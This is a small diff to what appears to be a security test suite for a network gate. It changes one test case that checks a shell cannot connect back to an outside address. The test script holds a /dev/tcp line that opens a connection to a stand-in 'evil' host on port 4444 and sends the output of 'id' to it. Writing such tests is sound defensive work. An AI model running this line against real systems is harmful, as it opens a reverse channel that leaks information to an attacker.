@@ -22,7 +22,8 @@ bypass({
 bypass({
   never: 'a shell connects back to an address',
   rows: [18, 45, 46],
-  script: `exec 3<>/dev/tcp/${ORIGINS.evil}/4444 && id >&3`,
+  // A connection that the gate has not yet taken when its step ends is refused, and not told.
+  script: `exec 3<>/dev/tcp/${ORIGINS.evil}/4444 && id >&3; sleep 0.5`,
   through: reachedTcp(ORIGINS.evil, 4444),
   refusal: 'no-rule',
 })
